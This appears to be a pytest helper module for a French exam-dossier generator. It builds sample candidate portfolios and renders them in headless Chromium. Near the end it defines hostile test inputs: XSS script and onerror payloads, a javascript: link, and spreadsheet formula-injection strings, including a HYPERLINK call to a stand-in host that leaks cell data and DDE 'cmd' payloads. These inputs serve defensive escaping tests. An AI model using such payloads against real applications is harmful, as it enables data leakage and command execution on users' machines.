"""Dossiers built on the fly for the `e4 table` tests, and the browser helpers."""

from __future__ import annotations

import html
import os
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
import yaml

COMPETENCES = ("B1.1", "B1.2", "B1.3", "B1.4", "B1.5", "B1.6")


def write_yaml(path: Path, data: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def manifest(**overrides: object) -> dict[str, object]:
    data: dict[str, object] = {
        "session": 2026,
        "candidat": {"nom": "Martin", "prenom": "Léa", "numero": "02248211114", "option": "SISR"},
        "centre": "Lycée Félix Le Dantec, Lannion",
        "portfolio": {"url": "https://lea-martin.github.io/portfolio/"},
        "stages": [
            {
                "id": "stage1",
                "organisation": "Mairie de Lannion",
                "annee": 1,
                "debut": "2025-05-26",
                "fin": "2025-06-27",
                "attestation": "attestations/stage1.pdf",
            },
            {
                "id": "stage2",
                "organisation": "ESN Armor Info",
                "annee": 2,
                "debut": "2026-01-12",
                "fin": "2026-02-20",
                "attestation": "attestations/stage2.pdf",
            },
        ],
    }
    data.update(overrides)
    return data


def realisation(
    intitule: str,
    cadre: str = "formation",
    stage: str | None = None,
    competences: list[str] | None = None,
    debut: str = "2024-10-07",
    fin: str = "2024-11-22",
    productions: list[dict[str, str]] | None = None,
) -> dict[str, object]:
    data: dict[str, object] = {"intitule": intitule, "cadre": cadre}
    if stage:
        data["stage"] = stage
    data["periode"] = {"debut": debut, "fin": fin}
    data["competences"] = competences if competences is not None else ["B1.1"]
    if productions is not None:
        data["productions"] = productions
    return data


def build_dossier(
    root: Path,
    realisations: dict[str, dict[str, object]],
    **manifest_overrides: object,
) -> Path:
    write_yaml(root / "dossier.yaml", manifest(**manifest_overrides))
    for name, data in realisations.items():
        write_yaml(root / "realisations" / f"{name}.yaml", data)
    return root


def standard_realisations(count: int = 6) -> dict[str, dict[str, object]]:
    """`count` réalisations spread over the three sections, every competency ticked somewhere.

    Titles and documents are of a realistic length, so that the print layout
    is measured on what candidates really write.
    """
    places = [
        ("formation", None, "2024-10-07", "2024-11-22"),
        ("stage", "stage1", "2025-05-27", "2025-06-20"),
        ("stage", "stage2", "2026-01-13", "2026-02-13"),
    ]
    topics = [
        "Déploiement d'un outil de gestion de parc et d'assistance (GLPI) pour le lycée",
        "Mise en place d'un annuaire Active Directory et des stratégies de groupe",
        "Plan de sauvegarde et tests de restauration des serveurs de la section",
        "Site vitrine de l'association sportive : mentions légales et référencement",
        "Veille technologique sur la cybersécurité et identité professionnelle",
        "Supervision du réseau de la mairie avec Zabbix et alertes par courriel",
        "Migration du serveur de fichiers vers Windows Server 2022 et DFS",
        "Inventaire automatisé du parc informatique des services municipaux",
        "Déploiement de postes de travail par image système (WDS/MDT)",
        "Réponse aux demandes d'assistance des agents via le portail de tickets",
        "Authentification Wi-Fi par serveur RADIUS et certificats (802.1X)",
        "Haute disponibilité du pare-feu pfSense (CARP) et tests de bascule",
        "Conteneurisation d'une application métier avec Docker et Compose",
        "Planification et suivi du projet de renouvellement des commutateurs",
        "Accompagnement des utilisateurs lors du passage à la messagerie hébergée",
    ]
    result: dict[str, dict[str, object]] = {}
    for index in range(count):
        cadre, stage, debut, fin = places[index * 3 // count]
        result[f"{index + 1:02d}-realisation"] = realisation(
            topics[index % len(topics)] + (f" ({index + 1})" if index >= len(topics) else ""),
            cadre=cadre,
            stage=stage,
            competences=[COMPETENCES[index % 6], COMPETENCES[(index + 2) % 6]],
            debut=debut,
            fin=fin,
            productions=[
                {"titre": "Procédure d'installation et de configuration", "fichier": "p/a.pdf"},
                {"titre": "Cahier de recette signé par le tuteur", "fichier": "p/b.pdf"},
                {"titre": "Dépôt du code source", "url": "https://example.org/depot"},
            ],
        )
    return result


def chromium() -> str | None:
    """The headless browser for the print tests; under CI its absence is a failure."""
    for name in ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable"):
        found = shutil.which(name)
        if found:
            return found
    if os.environ.get("CI", "").lower() not in ("", "0", "false", "no"):
        pytest.fail("Chromium est requis en CI (installé par .ci/run) et il est introuvable.")
    pytest.skip("Chromium absent : test d'impression dans un navigateur sauté (hors CI).")
    return None


def print_to_pdf(html_file: Path, pdf_file: Path) -> None:
    browser = chromium()
    assert browser is not None
    with tempfile.TemporaryDirectory() as profile:
        subprocess.run(
            [
                browser,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                f"--user-data-dir={profile}",
                f"--print-to-pdf={pdf_file}",
                "--no-pdf-header-footer",
                html_file.resolve().as_uri(),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )


def in_browser(page: str, expression: str, width: int = 400) -> str:
    """The value of a JavaScript `expression` once the page is laid out in a `width` px window.

    The page forbids scripts (Content-Security-Policy); that meta tag is dropped
    here so the probe can run.
    """
    browser = chromium()
    assert browser is not None
    probe = (
        f'<script>document.body.setAttribute("data-probe", String({expression}));</script>'
    )
    probed = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    probed = probed.replace("</body>", probe + "</body>")
    with tempfile.TemporaryDirectory() as folder:
        html_file = Path(folder) / "page.html"
        html_file.write_text(probed, encoding="utf-8")
        done = subprocess.run(
            [
                browser,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                f"--user-data-dir={Path(folder) / 'profile'}",
                f"--window-size={width},900",
                "--dump-dom",
                html_file.as_uri(),
            ],
            check=True,
            capture_output=True,
            text=True,
            timeout=120,
        )
    found = re.search(r'data-probe="([^"]*)"', done.stdout)
    assert found is not None, done.stderr
    return html.unescape(found.group(1))


def phone_overflow(page: str, width: int = 400) -> int:
    """How many pixels a page scrolls sideways in a phone-wide window (0: it fits)."""
    scroll = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
    return int(in_browser(page, scroll, width))


HOSTILE_SCRIPT = "<script>alert('xss')</script> & <b>gras</b>"
HOSTILE_FORMULAS = (
    '=HYPERLINK("http://malveillant.example/?v="&A1;"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
LONG_TITLE = (
    "Réalisation au titre volontairement interminable pour vérifier le retour à la ligne "
    + "x" * 160
    + " "
    + "mot " * 60
).strip()


def hostile_realisations() -> dict[str, dict[str, object]]:
    """Titles that try to run a script, formulas, or break the layout."""
    reals = {
        "01-script": realisation(
            HOSTILE_SCRIPT,
            productions=[
                {"titre": "Lien piégé", "url": "javascript:alert(1)"},
                {"titre": "<img src=x onerror=alert(1)>", "fichier": "p/x.pdf"},
            ],
        ),
        "02-long": realisation(LONG_TITLE, cadre="stage", stage="stage1"),
    }
    for index, formula in enumerate(HOSTILE_FORMULAS, start=3):
        reals[f"{index:02d}-formule"] = realisation(
            formula,
            cadre="stage",
            stage="stage2",
            productions=[{"titre": formula, "fichier": "p/f.pdf"}],
        )
    return reals
